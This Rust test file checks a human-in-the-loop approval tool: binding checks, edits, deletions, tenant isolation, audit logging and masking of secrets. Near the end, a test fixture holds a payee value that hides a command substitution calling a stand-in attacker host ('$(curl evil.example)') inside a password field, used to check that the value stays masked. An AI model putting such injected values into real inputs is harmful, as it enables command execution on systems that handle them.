//! Decisions by scripts.

use crate::house::{House, program, ran};

#[tokio::test(flavor = "multi_thread")]
async fn what_was_approved_here_runs_there() {
    let house = House::new().await;
    let call = house.wire("Initech", 120).await;
    let named = &call.binding[..8];
    let ran = house.hitl(&["approve", &call.id, "--binding", named, "--as", "bob"]).ended(0);
    assert!(ran.out.contains("decided by bob"), "{ran:?}");
    let outcome = call.ticket.wait().await.unwrap();
    assert!(format!("{outcome:?}").contains("wired 120 to Initech"), "{outcome:?}");
    assert_eq!(house.state(&call.id), "executed");
    // The second of two decisions changes nothing, and names the first decider.
    let late = house.hitl(&["reject", &call.id, "--reason", "too late", "--as", "eve"]).ended(4);
    assert!(late.err.contains("decided by bob"), "{late:?}");
}

/// The command in a notice, as a person pastes it into a shell.
#[tokio::test(flavor = "multi_thread")]
async fn the_command_of_a_notice_decides_the_call() {
    let house = House::new().await;
    let call = house.wire("Initech", 120).await;
    let notice = call.ticket.notice();
    let command = notice.command().expect("a file has a command");
    let line = format!("{command} --binding {} --as bob", &call.binding[..8]);
    let arguments = line.strip_prefix("hitl ").expect("it runs the program");
    let mut shell = program(&[]);
    let program = shell.get_program().to_owned();
    let mut pasted = std::process::Command::new("sh");
    pasted.args(["-c", &format!("\"$PROGRAM\" {arguments}")]).env("PROGRAM", program);
    for (name, value) in shell.env("USER", "tester").get_envs() {
        match value {
            Some(value) => pasted.env(name, value),
            None => pasted.env_remove(name),
        };
    }
    let ran = ran(&mut pasted).ended(0);
    assert!(ran.out.contains("decided by bob"), "{ran:?}");
    let outcome = call.ticket.wait().await.unwrap();
    assert!(format!("{outcome:?}").contains("wired 120 to Initech"), "{outcome:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn invariant_2_nothing_is_approved_that_was_not_looked_at() {
    let house = House::new().await;
    let (call, other) = (house.wire("Initech", 120).await, house.wire("Initech", 9000).await);
    let seven = &call.binding[..7];
    let cases: [(&[&str], i32); 6] = [
        (&["approve", &call.id], 2),
        (&["approve", &call.id, "--yes"], 2),
        (&["approve", &call.id, "--binding", seven], 2),
        (&["approve", &call.id, "--binding", "not-hex-at-all"], 2),
        // The binding that was shown is that of another call.
        (&["approve", &call.id, "--binding", &other.binding], 4),
        (&["reject", &call.id, "--reason", "x", "--binding", &other.binding], 4),
    ];
    for (arguments, code) in cases {
        let ran = house.hitl(arguments).ended(code);
        assert!(ran.err.contains("--binding") && ran.out.is_empty(), "{ran:?}");
        assert_eq!(house.state(&call.id), "pending", "{arguments:?}");
    }
    house.hitl(&["approve", &call.id, "--binding", &call.binding, "--yes"]).ended(0);
    assert_eq!(house.state(&call.id), "approved");
    assert_eq!(house.state(&other.id), "pending");
    let shown = house.hitl(&["show", &call.id, "--json"]).ended(0).json();
    assert_eq!(shown[0]["decided"]["by"], "tester", "the operating system's user");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_edited_call_is_not_the_one_that_was_looked_at() {
    let house = House::new().await;
    let call = house.wire("Initech", 120).await;
    let record =
        house.gate.unscoped().get_by_key(&call.ticket.request().key).await.unwrap().unwrap();
    // Somebody else edits it meanwhile; the editor's tool requires a new decision or approves it.
    let edit = record.request().edit(r#"{"amount": 5000}"#).by("carol");
    house.gate.decide(edit).await.unwrap();
    house.hitl(&["approve", &call.id, "--binding", &call.binding]).ended(4);
}

#[tokio::test(flavor = "multi_thread")]
async fn invariant_2_arguments_are_edited_by_the_schema_that_the_executor_recorded() {
    let house = House::new().await;
    let (call, other) = (house.wire("Initech", 9000).await, house.wire("Initech", 1).await);
    let bound = ["edit", &call.id, "--as", "bob", "--binding", &call.binding, "--patch"];
    let edit = |patch: &str| house.hitl(&[&bound[..], &[patch]].concat());
    let wrong = [
        "{",
        r#"{"amount": "much"}"#,
        r#"{"amount": -1}"#,
        r#"{"amount": 4294967296}"#,
        r#"{"amount": 0.5}"#,
        r#"{"amount": null}"#,
        r#"{"to": "[redacted]"}"#,
    ];
    for patch in wrong {
        let refused = edit(patch).ended(2);
        assert!(refused.out.is_empty() && !refused.err.is_empty(), "{patch}: {refused:?}");
        assert_eq!(house.state(&call.id), "pending", "{patch}");
    }
    edit(r#"{"amount": 9000}"#).ended(5);
    let patch = r#"{"amount": 90}"#;
    house.hitl(&["edit", &call.id, "--patch", patch]).ended(2);
    house.hitl(&["edit", &call.id, "--patch", patch, "--binding", &other.binding]).ended(4);
    let nobody = hitl::RequestId::new().to_string();
    house.hitl(&["edit", &nobody, "--patch", patch, "--binding", &call.binding]).ended(3);
    // The requester may not approve a full approval, so their edit does not either.
    let own = ["edit", &other.id, "--as", "owner", "--binding", &other.binding, "--patch", patch];
    house.hitl(&own).ended(0);
    assert_eq!(house.state(&other.id), "pending");

    edit(patch).ended(0);
    let hitl::Outcome::Executed(output) = call.ticket.wait().await.unwrap() else {
        panic!("it ran")
    };
    assert_eq!(output.json(), Some(r#""wired 90 to Initech""#));
    edit(r#"{"amount": 91}"#).ended(4);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_deletion_is_approved_by_its_exact_name() {
    let house = House::new().await;
    let call = house.drop_project("apollo").await;
    let approve = ["approve", &call.id, "--binding", &call.binding];
    for confirm in [None, Some("Apollo"), Some("")] {
        let mut arguments = approve.to_vec();
        arguments.extend(confirm.iter().flat_map(|name| ["--confirm", name]));
        house.hitl(&arguments).ended(5);
        assert_eq!(house.state(&call.id), "pending", "{confirm:?}");
    }
    let shown = house.hitl(&["show", &call.id]).ended(0);
    assert!(shown.out.contains("--confirm apollo"), "{shown:?}");
    let edit = ["edit", &call.id, "--binding", &call.binding, "--patch", r#"{"name": "gemini"}"#];
    assert!(house.hitl(&edit).ended(5).err.contains("not edited"));
    house.hitl(&[&approve[..], &["--confirm", "apollo"]].concat()).ended(0);
    assert_eq!(house.state(&call.id), "approved");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_other_answers() {
    let house = House::new().await;
    let reject = house.wire("Initech", 1).await;
    // This tool requires a reason, and a blank one does not count.
    house.hitl(&["reject", &reject.id, "--reason", " "]).ended(5);
    house.hitl(&["reject", &reject.id]).ended(2);
    house.hitl(&["reject", &reject.id, "--reason", "wrong account"]).ended(0);
    assert_eq!(house.state(&reject.id), "rejected");

    let respond = house.wire("Initech", 2).await;
    let said = house.hitl(&["respond", &respond.id, "--message", "ask Bob", "--json"]).ended(0);
    assert_eq!(said.json()[0]["state"], "responded");

    let abort = house.wire("Initech", 3).await;
    house.hitl(&["abort", &abort.id, "--reason", "stop", "--as", "bob"]).ended(0);
    let shown = house.hitl(&["show", &abort.id, "--json"]).ended(0).json();
    assert_eq!(shown[0]["decided"]["by"], "bob");
    // A call that has ended is not resolved.
    house.hitl(&["resolve", &abort.id, "--done", "--version", "1"]).ended(4);
    house.hitl(&["resolve", &abort.id]).ended(2);
    house.hitl(&["resolve", &abort.id, "--done", "--retry"]).ended(2);
}

#[tokio::test(flavor = "multi_thread")]
async fn another_tenants_call_is_not_there() {
    let house = House::new().await;
    let call = house.wire("Initech", 120).await;
    let approve = ["approve", call.id.as_str(), "--binding", call.binding.as_str()];
    house.hitl(&[&["--tenant", "umbrella"], &approve[..]].concat()).ended(3);
    assert_eq!(house.state(&call.id), "pending");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_decision_is_in_the_audit_that_it_names() {
    let house = House::new().await;
    let call = house.wire("Initech", 120).await;
    let folder = house.path("logs");
    std::fs::create_dir(&folder).unwrap();
    let folder = folder.to_str().unwrap();
    let approve = ["approve", &call.id, "--binding", &call.binding, "--as", "bob"];
    house.hitl(&[&approve[..], &["--audit", folder]].concat()).ended(0);
    let log = std::fs::read_to_string(house.path("logs").join("audit-1.jsonl")).unwrap();
    assert!(log.contains(r#""bob""#) && log.contains(&call.id), "{log}");
    // A log that cannot be opened: nothing is decided.
    let second = house.wire("Initech", 121).await;
    let nowhere = house.file("file", "");
    let reject = ["reject", &second.id, "--reason", "no", "--audit", &nowhere];
    house.hitl(&reject).ended(1);
    assert_eq!(house.state(&second.id), "pending");
}

/// The log accepts nothing: the disk is full.
#[cfg(target_os = "linux")]
#[tokio::test(flavor = "multi_thread")]
async fn a_decision_that_the_audit_did_not_take_has_an_exit_code_of_its_own() {
    let house = House::new().await;
    let call = house.wire("Initech", 120).await;
    let folder = house.path("logs");
    std::fs::create_dir(&folder).unwrap();
    std::os::unix::fs::symlink("/dev/full", folder.join("audit-1.jsonl")).unwrap();
    let reject = ["reject", &call.id, "--reason", "no", "--audit", folder.to_str().unwrap()];
    let ran = house.hitl(&reject).ended(7);
    assert!(ran.err.contains("not in the audit log"), "{ran:?}");
    assert_eq!(house.state(&call.id), "rejected", "it was done");
}

/// A payee that contains shell code, after the name of a secret.
const PAYEE: &str = "mysql --password=\"aB3dE6gH$(curl evil.example)\"";

#[tokio::test(flavor = "multi_thread")]
async fn invariant_9b_what_is_masked_is_uncovered_where_it_is_audited() {
    let house = House::new().await;
    let call = house.wire(PAYEE, 120).await;
    let shown = house.hitl(&["show", &call.id]).ended(0);
    assert!(shown.out.contains("masked by its name: 8 characters"), "{shown:?}");
    assert!(shown.out.contains("--uncover") && !shown.out.contains("curl"), "{shown:?}");
    let refused = house.hitl(&["show", &call.id, "--uncover"]).ended(2);
    assert!(refused.err.contains("--audit") && !refused.err.contains("curl"), "{refused:?}");
    let folder = house.path("logs");
    std::fs::create_dir(&folder).unwrap();
    let uncover =
        ["show", &call.id, "--uncover", "--as", "bob", "--audit", folder.to_str().unwrap()];
    let ran = house.hitl(&uncover).ended(0);
    assert!(ran.out.contains("$(curl evil.example)"), "{ran:?}");
    let ran = house.hitl(&[&uncover[..], &["--json"]].concat()).ended(0);
    assert_eq!(ran.json()[0]["places"][0]["at"], "/to");
    let log = std::fs::read_to_string(folder.join("audit-1.jsonl")).unwrap();
    assert!(log.contains(r#""event":"uncovered""#) && log.contains("uncovered /to"), "{log}");
    assert!(!log.contains("curl") && !log.contains("aB3dE6gH"), "{log}");
    // For another tenant, the call does not exist.
    house.hitl(&[&uncover[..], &["--tenant", "other"]].concat()).ended(3);
    // A script that names the binding has been shown the masks.
    house.hitl(&["approve", &call.id, "--binding", &call.binding]).ended(0);
    let late = house.hitl(&uncover).ended(4);
    assert!(!late.out.contains("curl"), "{late:?}");
}
